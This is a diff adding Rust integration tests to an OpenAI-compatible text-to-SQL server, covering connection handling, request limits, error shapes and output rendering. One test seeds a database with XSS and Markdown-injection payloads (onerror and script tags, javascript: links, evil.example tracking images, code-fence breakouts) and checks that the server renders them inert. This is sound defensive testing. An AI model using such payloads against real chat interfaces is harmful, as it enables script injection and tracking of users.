@@ -343,8 +343,29 @@ fn over_the_cap_the_quietest_connection_makes_room() {
     assert_eq!(events.last().map(String::as_str), Some("done"), "the stream was not cut: {events:?}");
 }
 
-/// A queued request whose client hangs up leaves the queue at once, JSON or events: four
-/// abandoned requests no longer keep a queue of four full until the running episode ends.
+/// Closes `c` with a reset (`SO_LINGER` 0), as a client that gives up abruptly does.
+fn reset(c: TcpStream) {
+    use std::os::fd::AsRawFd;
+    let linger = libc::linger { l_onoff: 1, l_linger: 0 };
+    // SAFETY: setsockopt reads `linger`, which lives through the call, on a socket `c` owns.
+    let rc = unsafe {
+        libc::setsockopt(
+            c.as_raw_fd(),
+            libc::SOL_SOCKET,
+            libc::SO_LINGER,
+            (&linger as *const libc::linger).cast(),
+            std::mem::size_of::<libc::linger>() as libc::socklen_t,
+        )
+    };
+    assert_eq!(rc, 0, "SO_LINGER");
+    drop(c);
+}
+
+/// A queued request whose client hangs up leaves the queue at once: four abandoned requests no
+/// longer keep a queue of four full until the running episode ends. The event streams' clients
+/// close (the server probes them, and they answer with a reset); the JSON clients reset their
+/// connections. (A JSON client that only closes its side is taken to be waiting for its answer:
+/// `a_client_that_closes_its_sending_side_gets_its_answer`.)
 #[test]
 fn abandoned_queued_requests_leave_the_queue() {
     let gate = Arc::new(Gate::default());
@@ -366,8 +387,12 @@ fn abandoned_queued_requests_leave_the_queue() {
     let r = post(&format!("{}/v1/ask", s.url), &json!({"question": "one more", "db": "demo"}).to_string(), &[]);
     assert_eq!(r.status, 503, "the queue is full: {}", r.body);
     // The four clients hang up.
-    for c in queued {
-        let _ = c.shutdown(std::net::Shutdown::Both);
+    for (i, c) in queued.into_iter().enumerate() {
+        if i % 2 == 1 {
+            let _ = c.shutdown(std::net::Shutdown::Both);
+        } else {
+            reset(c);
+        }
     }
     assert!(
         s.wait_metric("sqale_queue_depth", 0.0, Duration::from_secs(10)),
@@ -536,4 +561,473 @@ async fn mcp_tool_errors_name_no_file() {
     assert!(!text.contains(&folder_of(&shop)), "the tool error names the file: {text}");
     assert!(text.contains("shop"), "{text}");
     client.cancel().await.unwrap();
+}
+
+/// Sends `bytes` and reads the answer (the server closes after it): status and body.
+fn raw_bytes(s: &Server, bytes: &[u8]) -> (u16, String) {
+    let mut c = connect(s);
+    c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    c.write_all(bytes).unwrap();
+    let mut out = Vec::new();
+    let _ = c.read_to_end(&mut out);
+    let text = String::from_utf8_lossy(&out).into_owned();
+    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
+    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default();
+    (status, body)
+}
+
+/// A `POST PATH` of `body` (JSON) as raw bytes, keep-alive.
+fn post_request(s: &Server, path: &str, body: &Value) -> String {
+    let body = body.to_string();
+    format!(
+        "POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+        addr(s),
+        body.len()
+    )
+}
+
+/// A chat asking `question` of the database `db`, with `extra` fields.
+fn chat(db: &str, question: &str, extra: Value) -> Value {
+    let mut body = json!({"model": db, "messages": [{"role": "user", "content": question}]});
+    for (k, v) in extra.as_object().cloned().unwrap_or_default() {
+        body[k] = v;
+    }
+    body
+}
+
+/// The text of the cells, the code blocks and the whole of `markdown` as a real renderer
+/// (pulldown-cmark, CommonMark with GitHub's tables and the common extensions) reads it, and
+/// anything in it that a browser would load or run: HTML, links, images.
+struct Rendered {
+    html: String,
+    cells: Vec<String>,
+    code: Vec<String>,
+    active: Vec<String>,
+}
+
+fn render(markdown: &str) -> Rendered {
+    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_FOOTNOTES
+        | Options::ENABLE_MATH
+        | Options::ENABLE_GFM;
+    let events: Vec<Event> = Parser::new_ext(markdown, options).collect();
+    let mut html = String::new();
+    pulldown_cmark::html::push_html(&mut html, events.clone().into_iter());
+    let (mut cells, mut code, mut active) = (Vec::new(), Vec::new(), Vec::new());
+    let (mut cell, mut block): (Option<String>, Option<String>) = (None, None);
+    for e in events {
+        match e {
+            Event::Start(Tag::TableCell) => cell = Some(String::new()),
+            Event::End(TagEnd::TableCell) => cells.extend(cell.take()),
+            Event::Start(Tag::CodeBlock(_)) => block = Some(String::new()),
+            Event::End(TagEnd::CodeBlock) => code.extend(block.take()),
+            Event::Text(t) | Event::Code(t) => {
+                if let Some(b) = block.as_mut().or(cell.as_mut()) {
+                    b.push_str(&t);
+                }
+            }
+            Event::Html(h) | Event::InlineHtml(h) => active.push(format!("HTML {h}")),
+            Event::Start(Tag::Link { dest_url, .. }) => active.push(format!("link {dest_url}")),
+            Event::Start(Tag::Image { dest_url, .. }) => active.push(format!("image {dest_url}")),
+            Event::Start(Tag::FootnoteDefinition(_)) | Event::FootnoteReference(_) => active.push("footnote".into()),
+            Event::InlineMath(m) | Event::DisplayMath(m) => active.push(format!("math {m}")),
+            _ => {}
+        }
+    }
+    Rendered { html, cells, code, active }
+}
+
+/// Cells that a chat UI would turn into HTML, links, images or code (issue 55's findings).
+const HOSTILE_CELLS: &[&str] = &[
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "![i](http://evil.example/track.png)",
+    "<script>alert(1)</script>",
+    "`ticks` and ``` a fence",
+    "<http://evil.example/auto>",
+    "&lt;img src=x&gt; &amp;",
+    "*em* _em_ ~~gone~~ $x$ [^1]",
+    "a|b \\| back\\slash\\",
+    "two\nlines",
+    "[ref]: http://evil.example/",
+    "plain_name 12.5 Łódź",
+];
+
+/// A vLLM stand-in whose episodes submit the SQL between `SQL<<` and `>>SQL` in the question,
+/// after thinking `thinking`.
+fn vllm_submitting(thinking: &'static str) -> Stub {
+    stub::start(move |r: &Seen| {
+        if let Some(a) = stub::vllm_probe(r, 4096) {
+            return a;
+        }
+        let prompt = prompt_text(r);
+        let sql = prompt.split("SQL<<").nth(1).and_then(|s| s.split(">>SQL").next()).unwrap_or("SELECT 1");
+        let answer = format!("<think>{thinking}</think>\n{}", json!({"tool": "submit_sql", "args": {"sql": sql}}));
+        stub::vllm_completion(r, &answer, 0)
+    })
+}
+
+/// The chat answer's Markdown shows the data as written and nothing more: a real renderer finds
+/// no HTML element, link or image in the table, the SQL's code block cannot be closed by the
+/// SQL (a line of three backticks and an `<img>` after it stay inside), and the reasoning (the
+/// thinking and the tools' results, data included) is inert too; the same whole or streamed.
+/// (Before, `<img …>`, links and images in cells came through as written, and SQL with three
+/// backticks broke out of its block.)
+#[test]
+fn chat_answers_show_hostile_data_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("h.sqlite");
+    let conn = rusqlite::Connection::open(&db).unwrap();
+    conn.execute("CREATE TABLE t(n INTEGER, v TEXT)", []).unwrap();
+    for (i, v) in HOSTILE_CELLS.iter().enumerate() {
+        conn.execute("INSERT INTO t VALUES (?1, ?2)", rusqlite::params![i as i64, v]).unwrap();
+    }
+    drop(conn);
+    let stub = vllm_submitting("look: ![x](http://evil.example/?think) <img src=x onerror=alert(2)> [a](javascript:x)");
+    let s = serve(&stub, &["--db", &format!("h={}", db.display())]);
+    let sql = "SELECT v AS \"<b>v</b>\", '![x](http://evil.example/?' || n || ')' AS leak FROM t ORDER BY n\n/*\n```\n<img src=x onerror=alert(3)>\n```````\n*/";
+    let question = format!("Show everything. SQL<<{sql}>>SQL");
+    let url = format!("{}/v1/chat/completions", s.url);
+    let r = post(&url, &chat("h", &question, json!({"seed": 1})).to_string(), &[]);
+    assert_eq!(r.status, 200, "{}", r.body);
+    let answer = r.json();
+    let content = answer["choices"][0]["message"]["content"].as_str().unwrap().to_string();
+    assert_eq!(answer["sqale"]["episode"]["sql"], sql.trim(), "the episode submitted the hostile SQL");
+    let md = render(&content);
+    assert!(md.active.is_empty(), "active Markdown from the data: {:?}\n{content}\n{}", md.active, md.html);
+    for tag in ["<img", "<a ", "<script", "<b>", "<i>"] {
+        assert!(!md.html.contains(tag), "{tag} in the rendered answer:\n{}", md.html);
+    }
+    assert_eq!(md.code, vec![format!("{}\n", sql.trim())], "the SQL is one code block, whole:\n{content}");
+    let mut want = vec!["<b>v</b>".to_string(), "leak".to_string()];
+    for (i, v) in HOSTILE_CELLS.iter().enumerate() {
+        want.push(v.replace('\n', " "));
+        want.push(format!("![x](http://evil.example/?{i})"));
+    }
+    assert_eq!(md.cells, want, "each cell shows its value as written:\n{content}");
+    // The reasoning is Markdown to a chat UI too: the thinking and the tool's results.
+    let reasoning = answer["choices"][0]["message"]["reasoning_content"].as_str().unwrap();
+    assert!(reasoning.contains("submit_sql"), "{reasoning}");
+    let rd = render(reasoning);
+    assert!(
+        rd.active.iter().all(|a| a.starts_with("math")),
+        "active Markdown in the reasoning: {:?}\n{reasoning}",
+        rd.active
+    );
+    for tag in ["<img", "<a ", "<script"] {
+        assert!(!rd.html.contains(tag), "{tag} in the rendered reasoning:\n{}", rd.html);
+    }
+    // Streamed: the same content, and the reasoning's pieces as inert.
+    let mut body = chat("h", &question, json!({"seed": 1, "stream": true}));
+    body["stream"] = json!(true);
+    let mut c = connect(&s);
+    c.write_all(post_request(&s, "/v1/chat/completions", &body).as_bytes()).unwrap();
+    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
+    let (mut streamed, mut thought) = (String::new(), String::new());
+    for line in BufReader::new(c).lines() {
+        let Ok(line) = line else { break };
+        let Some(data) = line.strip_prefix("data: ") else { continue };
+        if data == "[DONE]" {
+            break;
+        }
+        let chunk: Value = serde_json::from_str(data).unwrap();
+        let delta = &chunk["choices"][0]["delta"];
+        streamed.push_str(delta["content"].as_str().unwrap_or_default());
+        thought.push_str(delta["reasoning_content"].as_str().unwrap_or_default());
+    }
+    assert_eq!(streamed, content);
+    let td = render(&thought);
+    assert!(td.active.iter().all(|a| a.starts_with("math")), "{:?}\n{thought}", td.active);
+    assert!(!td.html.contains("<img") && !td.html.contains("<a "), "{}", td.html);
+}
+
+/// A client that sends its request and then closes its sending side (`shutdown(SHUT_WR)`, as
+/// `nc -N` and some proxies do) gets its whole answer: a chat completion, a streamed one, and
+/// `/v1/ask`, with the answer coming after the close. (Before, the chat got 0 bytes and was
+/// counted as cancelled.)
+#[test]
+fn a_client_that_closes_its_sending_side_gets_its_answer() {
+    let gate = Arc::new(Gate::default());
+    let stub = vllm(gate.clone());
+    let s = serve(&stub, &["--parallel", "3"]);
+    let requests = [
+        ("chat", post_request(&s, "/v1/chat/completions", &chat("demo", "HOLD chat", json!({})))),
+        (
+            "streamed chat",
+            post_request(&s, "/v1/chat/completions", &chat("demo", "HOLD stream", json!({"stream": true}))),
+        ),
+        ("ask", post_request(&s, "/v1/ask", &json!({"question": "HOLD ask", "db": "demo"}))),
+    ];
+    let clients: Vec<_> = requests
+        .iter()
+        .map(|(what, req)| {
+            let mut c = connect(&s);
+            c.write_all(req.as_bytes()).unwrap();
+            c.shutdown(std::net::Shutdown::Write).unwrap();
+            (*what, c)
+        })
+        .collect();
+    assert!(s.wait_metric("sqale_episodes_running", 3.0, Duration::from_secs(20)), "{}", s.log.lock().unwrap());
+    std::thread::sleep(Duration::from_millis(300));
+    gate.open();
+    for (what, mut c) in clients {
+        c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
+        let mut out = Vec::new();
+        let _ = c.read_to_end(&mut out);
+        let text = String::from_utf8_lossy(&out);
+        assert!(text.starts_with("HTTP/1.1 200"), "{what}: {text:?}");
+        match what {
+            "chat" => assert!(text.contains("SELECT 1 AS one") && text.contains("chat.completion"), "{text}"),
+            "streamed chat" => assert!(text.contains("data: [DONE]") && text.contains("SELECT 1 AS one"), "{text}"),
+            _ => assert!(text.contains("\"sql\":\"SELECT 1 AS one\""), "{text}"),
+        }
+    }
+    assert_eq!(s.metric("sqale_episodes_failed_total{reason=\"cancelled\"}").unwrap_or(0.0), 0.0);
+    // A GET sent the same way, as before.
+    let mut c = connect(&s);
+    c.write_all(format!("GET /health HTTP/1.1\r\nHost: {}\r\n\r\n", addr(&s)).as_bytes()).unwrap();
+    c.shutdown(std::net::Shutdown::Write).unwrap();
+    let mut out = String::new();
+    let _ = c.read_to_string(&mut out);
+    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
+}
+
+/// A streamed request whose client went away while its request waited in the queue (its input
+/// ended, nothing more to read) leaves the queue within a second: the server probes the
+/// connection with a comment as soon as the input ends, and the second write fails.
+#[test]
+fn a_stream_whose_client_left_is_noticed_at_once() {
+    let gate = Arc::new(Gate::default());
+    let stub = vllm(gate.clone());
+    let s = serve(&stub, &["--parallel", "1", "--queue", "2"]);
+    let mut running = connect(&s);
+    running.write_all(post_request(&s, "/v1/ask", &json!({"question": "HOLD", "db": "demo"})).as_bytes()).unwrap();
+    assert!(s.wait_metric("sqale_episodes_running", 1.0, Duration::from_secs(20)));
+    let mut c = connect(&s);
+    c.write_all(post_request(&s, "/v1/chat/completions", &chat("demo", "queued", json!({"stream": true}))).as_bytes())
+        .unwrap();
+    assert!(s.wait_metric("sqale_queue_depth", 1.0, Duration::from_secs(20)));
+    // Read what was sent (the head and the first chunk), so that closing sends no reset.
+    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut buf = [0u8; 4096];
+    let n = c.read(&mut buf).unwrap();
+    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
+    drop(c);
+    let start = Instant::now();
+    assert!(
+        s.wait_metric("sqale_queue_depth", 0.0, Duration::from_secs(5)),
+        "the request of a client that left still waits"
+    );
+    assert!(start.elapsed() < Duration::from_secs(5));
+    assert_eq!(s.metric("sqale_episodes_failed_total{reason=\"cancelled\"}"), Some(1.0));
+    gate.open();
+    let mut out = String::new();
+    running.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
+    let _ = running.read_to_string(&mut out);
+    assert!(out.starts_with("HTTP/1.1 200"), "the running episode goes on: {out}");
+}
+
+/// A `Content-Length` over `--max-body-bytes` is answered 413 at once, from the header alone,
+/// and the connection closed, on every path: forty such requests with no body cannot hold the
+/// connections under the cap. (Before, each waited for its body and got a 408 after the 10 s body
+/// timeout, holding `/health` off for 9.5 s under `--max-connections 30`.)
+#[test]
+fn a_declared_body_over_the_limit_is_refused_at_once() {
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &["--max-body-bytes", "1000", "--max-connections", "30"]);
+    let paths = ["/v1/ask", "/v1/chat/completions", "/health", "/nothing"];
+    let head = |path: &str| {
+        format!(
+            "POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n",
+            addr(&s)
+        )
+    };
+    // One by one: each answered 413 at once, and its connection closed.
+    for path in paths {
+        let mut c = connect(&s);
+        c.write_all(head(path).as_bytes()).unwrap();
+        c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
+        let start = Instant::now();
+        let mut out = Vec::new();
+        let _ = c.read_to_end(&mut out);
+        let text = String::from_utf8_lossy(&out);
+        assert!(text.starts_with("HTTP/1.1 413"), "{path}: {text:?}");
+        assert!(text.contains("100000") && text.contains("--max-body-bytes"), "{path}: {text}");
+        assert!(start.elapsed() < Duration::from_secs(2), "{path}: took {:?}", start.elapsed());
+    }
+    // Forty at once, over the cap of 30: /health answers at once beside them, and none of them
+    // waits for its body (each is answered 413, or closed to make room before it was read).
+    let mut held = Vec::new();
+    for i in 0..40 {
+        let mut c = connect(&s);
+        c.write_all(head(paths[i % 4]).as_bytes()).unwrap();
+        held.push(c);
+    }
+    let start = Instant::now();
+    let (status, _) = get(&format!("{}/health", s.url), None);
+    assert_eq!(status, 200);
+    assert!(start.elapsed() < Duration::from_secs(2), "/health took {:?}", start.elapsed());
+    let mut refused = 0;
+    for mut c in held {
+        c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
+        let mut out = Vec::new();
+        let _ = c.read_to_end(&mut out);
+        let text = String::from_utf8_lossy(&out);
+        assert!(text.is_empty() || text.starts_with("HTTP/1.1 413"), "{text:?}");
+        refused += usize::from(!text.is_empty());
+    }
+    assert!(refused >= 10, "only {refused} of 40 answered 413");
+}
+
+/// Two `Host` headers are a 400 (RFC 9112, 3.2), whichever comes first and whatever
+/// `--allow-host` allows. (Before, the allowed name then `evil.com` got 200.)
+#[test]
+fn two_host_headers_are_refused() {
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &[]);
+    let mine = format!("Host: {}", addr(&s));
+    for pair in [[mine.as_str(), "Host: evil.com"], ["Host: evil.com", mine.as_str()], [mine.as_str(), mine.as_str()]] {
+        let (status, body) = raw_get(&s, "/health", &pair);
+        assert_eq!(status, 400, "{pair:?}: {body}");
+        assert!(serde_json::from_str::<Value>(&body).unwrap()["error"].as_str().unwrap().contains("2 Host headers"));
+    }
+    let any_stub = vllm(Arc::default());
+    let any = serve(&any_stub, &["--allow-host", "*"]);
+    let (status, _) = raw_get(&any, "/health", &["Host: a.example", "Host: b.example"]);
+    assert_eq!(status, 400);
+}
+
+/// Under OpenAI's paths every answer is in OpenAI's shape: `/v1/models/NAME` is the model (or
+/// its 404), and `/v1/completions`, `/v1/embeddings` say what to call instead. (Before, they
+/// answered in sqale's own shape, and an SDK showed a bare "Error code: 404".)
+#[test]
+fn openai_paths_answer_in_openai_shape() {
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &[]);
+    let (status, body) = get(&format!("{}/v1/models/demo", s.url), None);
+    assert_eq!(status, 200, "{body}");
+    let model: Value = serde_json::from_str(&body).unwrap();
+    assert_eq!((model["id"].as_str(), model["object"].as_str()), (Some("demo"), Some("model")), "{body}");
+    let openai_error = |status: u16, body: &str| -> Value {
+        let v: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
+        let e = v["error"].clone();
+        assert!(e.is_object(), "not OpenAI's shape: {body}");
+        for k in ["message", "type", "param", "code"] {
+            assert!(e.get(k).is_some(), "no {k}: {body}");
+        }
+        assert_eq!(e["type"], if status == 404 { "not_found_error" } else { "invalid_request_error" });
+        e
+    };
+    let (status, body) = get(&format!("{}/v1/models/nosuch", s.url), None);
+    assert_eq!(status, 404);
+    let e = openai_error(404, &body);
+    assert_eq!(e["code"], "model_not_found");
+    assert!(e["message"].as_str().unwrap().contains("demo"), "{body}");
+    for (path, says) in [("/v1/completions", "/v1/chat/completions"), ("/v1/embeddings", "no embeddings")] {
+        let r = post(&format!("{}{path}", s.url), "{\"model\": \"demo\", \"prompt\": \"q\"}", &[]);
+        assert_eq!(r.status, 404, "{path}: {}", r.body);
+        let e = openai_error(404, &r.body);
+        assert!(e["message"].as_str().unwrap().contains(says), "{path}: {}", r.body);
+    }
+    // sqale's own paths keep sqale's shape.
+    let (status, body) = get(&format!("{}/v1/nothing", s.url), None);
+    assert_eq!(status, 404);
+    assert!(serde_json::from_str::<Value>(&body).unwrap()["error"].is_string(), "{body}");
+}
+
+/// hyper's own answers to what it cannot parse have a body saying what is wrong: headers over
+/// the limit (431) and a raw 0xff byte in the request line (400). (Before, both were empty.)
+#[test]
+fn unparsable_requests_are_told_why() {
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &[]);
+    let big = format!("GET /health HTTP/1.1\r\nHost: {}\r\nX-Big: {}\r\n\r\n", addr(&s), "a".repeat(40 * 1024));
+    let (status, body) = raw_bytes(&s, big.as_bytes());
+    assert_eq!(status, 431, "{body}");
+    let v: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("431 body not JSON ({e}): {body:?}"));
+    assert_eq!(v["status"], 431);
+    assert!(v["error"].as_str().unwrap().contains("headers"), "{v}");
+    let many: String = (0..120).map(|i| format!("X-H{i}: v\r\n")).collect();
+    let (status, body) = raw_bytes(&s, format!("GET /health HTTP/1.1\r\nHost: h\r\n{many}\r\n").as_bytes());
+    assert_eq!(status, 431, "{body}");
+    assert!(body.contains("100 headers"), "{body}");
+    for bad in [&b"GET /\xff HTTP/1.1\r\nHost: h\r\n\r\n"[..], b"GET /health HTTP/1.1\r\nHo\xffst: h\r\n\r\n"] {
+        let (status, body) = raw_bytes(&s, bad);
+        assert_eq!(status, 400, "{body}");
+        let v: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("400 body not JSON ({e}): {body:?}"));
+        assert!(v["error"].as_str().unwrap().contains("not valid HTTP"), "{v}");
+    }
+    let (status, _) = get(&format!("{}/health", s.url), None);
+    assert_eq!(status, 200);
+}
+
+/// Chat fields an episode cannot honour are refused with OpenAI's 400 naming the field (its
+/// `param`) and what to send instead, and so is a sampling field of the wrong type; the
+/// harmless values are accepted. `max_tokens` out of range is named as such. (Before, all were
+/// accepted silently, and `max_tokens: 10^12` was called "max_episode_tokens".)
+#[test]
+fn chat_fields_that_cannot_be_honoured_are_refused() {
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &[]);
+    let url = format!("{}/v1/chat/completions", s.url);
+    for (field, value) in [
+        ("tool_choice", json!("required")),
+        ("tool_choice", json!({"type": "function", "function": {"name": "f"}})),
+        ("tools", json!([{"type": "function", "function": {"name": "f"}}])),
+        ("response_format", json!({"type": "json_object"})),
+        ("stop", json!(["\n"])),
+        ("stop", json!("x")),
+        ("logprobs", json!(true)),
+        ("top_logprobs", json!(2)),
+        ("temperature", json!("hot")),
+        ("temperature", json!(7)),
+        ("top_p", json!([1])),
+        ("logit_bias", json!({"50256": -100})),
+        ("audio", json!({"voice": "alloy"})),
+        ("max_tokens", json!(1_000_000_000_000i64)),
+        ("max_completion_tokens", json!(0)),
+    ] {
+        let mut fields = serde_json::Map::new();
+        fields.insert(field.to_string(), value.clone());
+        let r = post(&url, &chat("demo", "q", Value::Object(fields)).to_string(), &[]);
+        assert_eq!(r.status, 400, "{field} {value}: {}", r.body);
+        let e = &r.json()["error"];
+        assert_eq!(e["param"], field, "{}", r.body);
+        assert_eq!(e["type"], "invalid_request_error");
+        let message = e["message"].as_str().unwrap();
+        assert!(message.starts_with(field), "{field}: {message}");
+        assert!(!message.contains("max_episode_tokens"), "{message}");
+    }
+    let r = post(&url, &chat("demo", "q", json!({"max_tokens": 1_000_000_000_000i64})).to_string(), &[]);
+    assert!(r.json()["error"]["message"].as_str().unwrap().contains("1 to 4096"), "{}", r.body);
+    for harmless in [
+        json!({"tool_choice": "none", "logprobs": false, "temperature": 0.7, "top_p": 1, "stop": null}),
+        json!({"tool_choice": "auto", "tools": [], "response_format": {"type": "text"}, "user": "u", "presence_penalty": 0}),
+    ] {
+        let r = post(&url, &chat("demo", "q", harmless.clone()).to_string(), &[]);
+        assert_eq!(r.status, 200, "{harmless}: {}", r.body);
+    }
+}
+
+/// An Authorization header that is not text (a key ending in a 0xff byte) is named as such,
+/// not as a missing key.
+#[test]
+fn a_key_that_is_not_text_is_named_as_such() {
+    let dir = tempfile::tempdir().unwrap();
+    let key_file = dir.path().join("key");
+    std::fs::write(&key_file, "s3cret-key\n").unwrap();
+    let stub = vllm(Arc::default());
+    let s = serve(&stub, &["--api-key-file", key_file.to_str().unwrap()]);
+    let mut req = format!("GET /v1/databases HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n", addr(&s)).into_bytes();
+    req.extend_from_slice(b"Authorization: Bearer s3cret-key\xff\r\n\r\n");
+    let (status, body) = raw_bytes(&s, &req);
+    assert_eq!(status, 401, "{body}");
+    let message = serde_json::from_str::<Value>(&body).unwrap()["error"].as_str().unwrap().to_string();
+    assert!(message.contains("not valid text") && !message.contains("missing"), "{message}");
+    let (status, body) = raw_get(&s, "/v1/databases", &[&format!("Host: {}", addr(&s)), "Authorization: Token k"]);
+    assert_eq!(status, 401);
+    assert!(body.contains("not 'Bearer <key>'"), "{body}");
 }
